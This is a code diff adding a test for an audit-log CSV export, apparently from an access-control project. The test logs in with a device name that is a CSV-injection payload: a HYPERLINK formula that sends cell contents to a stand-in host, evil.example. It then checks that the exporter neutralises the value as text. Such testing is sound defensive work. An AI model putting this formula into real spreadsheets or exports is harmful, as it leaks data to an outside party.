@@ -161,3 +161,19 @@ def test_the_audit_log_is_append_only_and_holds_no_secret(store, store_url):
     engine.dispose()
     with store.unit_of_work() as uow:
         assert len(audit.entries(uow)) == len(rows)
+
+
+def test_the_audit_csv_writes_a_device_name_that_looks_like_a_formula_as_text(store):
+    """A device's name is typed by whoever logs in; the lock administrator opens the export in a
+    spreadsheet, where a cell starting with = would run (OWASP, CSV injection)."""
+    import csv
+    import io
+
+    hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"phone\")"
+    _login(store, device=hostile)
+    with store.unit_of_work() as uow:
+        rows = audit.entries(uow)
+    table = list(csv.reader(io.StringIO(audit.as_csv(rows).lstrip("\ufeff"))))
+    column = table[0].index("device")
+    devices = [row[column] for row in table[1:] if "HYPERLINK" in row[column]]
+    assert devices and all(d == "'" + hostile for d in devices)
